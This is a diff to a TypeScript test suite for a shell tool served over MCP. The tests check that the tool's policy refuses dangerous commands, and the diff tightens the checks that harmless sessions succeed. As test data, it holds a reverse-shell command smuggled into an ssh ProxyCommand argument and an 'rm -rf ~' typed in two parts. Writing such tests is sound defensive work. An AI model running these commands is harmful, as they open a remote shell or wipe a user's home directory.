@@ -42,10 +42,17 @@ describe('policy decisions over MCP', () => {
     expect(env.data).toMatchObject({ action: 'create', sessions: [], refused: true, policy: { decision: 'ask', rule: 'rm-recursive-root-or-home' } });
     const ssh = await call(s.client, 'sh_session', { action: 'create', name: 'evil2', ssh: 'me@example.invalid', ssh_args: ['-o', 'ProxyCommand=bash -i >& /dev/tcp/127.0.0.1/9 0>&1'] });
     expect(ssh.data).toMatchObject({ refused: true, policy: { decision: 'forbid', rule: 'reverse-shell' } });
-    const list = await call(s.client, 'sh_session', { action: 'list' });
-    expect(list.data.sessions.map((x: { name: string }) => x.name)).not.toContain('evil');
+    const names = async () => ((await call(s.client, 'sh_session', { action: 'list' })).data.sessions as { name: string }[]).map((x) => x.name);
+    expect(await names()).not.toContain('evil');
+    expect(await names()).not.toContain('evil2');
+    // A harmless environment creates the session: it is listed, and its shell has the variable.
+    // (Not only "no refusal": a failed call's data is {} and has no `refused` either.)
     const ok = await call(s.client, 'sh_session', { action: 'create', name: 'fine', env: { FOO: 'bar' } });
+    expect(ok.result.isError).toBeFalsy();
+    expect(ok.data).toMatchObject({ action: 'create', sessions: [expect.objectContaining({ name: 'fine' })] });
     expect(ok.data.refused).toBeUndefined();
+    expect(await names()).toContain('fine');
+    expect((await call(s.client, 'sh_run', { cmd: 'echo "FOO=$FOO"', session: 'fine' })).text).toContain('FOO=bar');
   });
 
   it('sh_interact: a line typed into a shell gets the same decision; nothing is sent when it is refused', async () => {
@@ -54,10 +61,12 @@ describe('policy decisions over MCP', () => {
     const sp = await call(s.client, 'sh_spawn', { cmd: 'bash --norc --noprofile', alias: 'shell' });
     expect(sp.data.status).toBe('started');
     const ok = await call(s.client, 'sh_interact', { id: 'shell', action: 'send', text: 'echo policy-ok\n', wait_for: 'policy-ok' });
+    expect(ok.result.isError).toBeFalsy();
     expect(ok.data.refused).toBeUndefined();
     expect(ok.text).toContain('policy-ok');
     // Split over two sends: the first submits nothing and is sent; the second would submit `rm -rf ~`.
     const part = await call(s.client, 'sh_interact', { id: 'shell', action: 'send', text: 'rm -rf ', wait: 0.2 });
+    expect(part.result.isError).toBeFalsy();
     expect(part.data.refused).toBeUndefined();
     const rest = await call(s.client, 'sh_interact', { id: 'shell', action: 'send', text: '~\n', wait: 0.2 });
     expect(rest.data).toMatchObject({ refused: true, policy: { decision: 'ask', rule: 'rm-recursive-root-or-home' } });
